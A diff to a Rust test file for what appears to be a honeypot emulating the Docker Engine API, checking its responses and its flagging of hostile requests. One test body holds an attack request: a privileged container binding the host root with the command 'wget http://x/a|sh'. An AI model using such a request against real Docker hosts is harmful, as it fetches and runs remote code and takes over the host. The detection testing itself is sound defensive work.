@@ -196,7 +196,7 @@ fn credentials_are_taken_from_whatever_they_come_in() {
 #[test]
 fn what_was_to_be_run_is_taken_down_and_hostile() {
     let body = "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"wget http://x/a|sh\"],\"HostConfig\":{\"Binds\":[\"/:/mnt\"],\"Privileged\":true}}";
-    let docker = post(Site::Docker, "/v1.24/containers/create?name=x", "application/json", body);
+    let docker = post(Site::Docker, "/v1.24/containers/create?name=x1", "application/json", body);
     assert!(said(&docker.answer).starts_with("HTTP/1.1 201 Created\r\n"), "{}", said(&docker.answer));
     let fields = &docker.findings.fields;
     assert_eq!((fields["image"].as_str(), fields["privileged"].as_str()), ("alpine", "true"));
@@ -212,6 +212,90 @@ fn what_was_to_be_run_is_taken_down_and_hostile() {
         assert!(heard.findings.signs.contains(Signs::RULE));
     }
     assert!(!ask(Site::Docker, "GET /version HTTP/1.1\r\nHost: a\r\n\r\n").findings.signs.contains(Signs::RULE));
+}
+
+/// The text behind the first of `name`, up to a quotation mark.
+fn text_of(answer: &str, name: &str) -> String {
+    let (_, behind) = answer.split_once(&alloc::format!("\"{name}\":\"")).unwrap_or_else(|| panic!("no {name}: {answer}"));
+    behind.split('"').next().unwrap().into()
+}
+
+#[test]
+fn docker_knows_its_containers_and_those_it_gave_a_number_and_no_others() {
+    let order = |path: &str, body: &str| said(&post(Site::Docker, path, "application/json", body).answer);
+    let list = get(Site::Docker, "/containers/json");
+    let id = text_of(&list, "Id");
+    for known in ["web", "/web", &id, &id[..12], &id[..3], "cache"] {
+        let inspected = get(Site::Docker, &alloc::format!("/containers/{}/json", known.trim_start_matches('/')));
+        assert!(inspected.starts_with("HTTP/1.1 200 OK") && inspected.contains("\"Running\":true"), "{known}: {inspected}");
+    }
+    let inspected = get(Site::Docker, "/containers/web/json");
+    for same in ["Id", "Image", "IPAddress", "MacAddress", "NetworkID"] {
+        let (in_list, alone) = (text_of(&list, same), text_of(&inspected, same));
+        assert!(in_list == alone || same == "Image", "{same}: {in_list} {alone}");
+    }
+    assert!(get(Site::Docker, "/networks").contains(&text_of(&inspected, "NetworkID")), "the bridge's own number");
+    assert!(get(Site::Docker, "/info").contains("\"ContainersRunning\":2,"), "as many as the list has");
+    for image in ["nginx:1.29", "library/nginx:1.29", "docker.io/library/nginx:1.29"] {
+        let image = get(Site::Docker, &alloc::format!("/images/{image}/json"));
+        assert!(inspected.contains(&text_of(&image, "Id")), "{image}");
+    }
+    let made = text_of(&order("/containers/create", "{\"Image\":\"alpine\"}"), "Id");
+    assert_eq!(made.len(), 64);
+    for known in [&made[..], &made[..12]] {
+        let started = order(&alloc::format!("/containers/{known}/start"), "{}");
+        assert!(started.starts_with("HTTP/1.1 204 No Content"), "{started}");
+    }
+    let exec = text_of(&order(&alloc::format!("/containers/{made}/exec"), "{\"Cmd\":[\"id\"]}"), "Id");
+    let started = order(&alloc::format!("/exec/{exec}/start"), "{}");
+    assert!(started.starts_with("HTTP/1.1 101 UPGRADED"), "{started}");
+    // Numbers that nobody gave out, in whatever they differ.
+    let mut other = made.clone();
+    other.replace_range(63.., if made.ends_with('0') { "1" } else { "0" });
+    for unknown in ["0123456789ab", &"ab".repeat(32), &other, &exec, "deadbeefcafe"] {
+        let started = order(&alloc::format!("/containers/{unknown}/start"), "{}");
+        assert!(
+            started.contains("404 Not Found")
+                && started.ends_with(&alloc::format!("{{\"message\":\"No such container: {unknown}\"}}\n")),
+            "{started}"
+        );
+        let run = order(&alloc::format!("/exec/{unknown}1/start"), "{}");
+        assert!(run.contains("No such exec instance"), "{run}");
+    }
+}
+
+#[test]
+fn docker_refuses_what_the_engine_refuses() {
+    let order = |path: &str, body: &str| said(&post(Site::Docker, path, "application/json", body).answer);
+    let table = [
+        (
+            "/containers/create?name=web",
+            "{\"Image\":\"a\"}",
+            "409 Conflict",
+            "The container name \\\"/web\\\" is already in use by container",
+        ),
+        ("/containers/create?name=a%20b", "{\"Image\":\"a\"}", "400 Bad Request", "only [a-zA-Z0-9][a-zA-Z0-9_.-] are allowed"),
+        ("/containers/web/start", "{}", "304 Not Modified", ""),
+        ("/containers/web/exec", "{}", "400 Bad Request", "No exec command specified"),
+        ("/containers/web/exec", "", "400 Bad Request", "No exec command specified"),
+        ("/containers/nothing/exec", "{}", "400 Bad Request", "No exec command specified"),
+        ("/containers/nothing/wait", "{}", "404 Not Found", "No such container: nothing"),
+        ("/containers/nothing/nothing", "{}", "404 Not Found", "page not found"),
+        ("/containers/web/nothing", "{}", "404 Not Found", "page not found"),
+        ("/images/nothing/json", "{}", "404 Not Found", "page not found"),
+    ];
+    for (path, body, status, words) in table {
+        let answer = order(path, body);
+        assert!(answer.starts_with(&alloc::format!("HTTP/1.1 {status}\r\n")) && answer.contains(words), "{path}: {answer}");
+    }
+    let delete = |what: &str| said(&ask(Site::Docker, &alloc::format!("DELETE {what} HTTP/1.1\r\nHost: a\r\n\r\n")).answer);
+    assert!(delete("/containers/cache").contains("cannot remove container \\\"/cache\\\": container is running"));
+    assert!(delete("/containers/cache?force=true").starts_with("HTTP/1.1 204"));
+    assert!(delete("/images/nginx:1.29").contains("(must force) - container"));
+    assert!(
+        delete("/images/a/b:1").contains("No such image: a/b:1\"")
+            && delete("/images/a/b").contains("No such image: a/b:latest\"")
+    );
 }
 
 #[test]
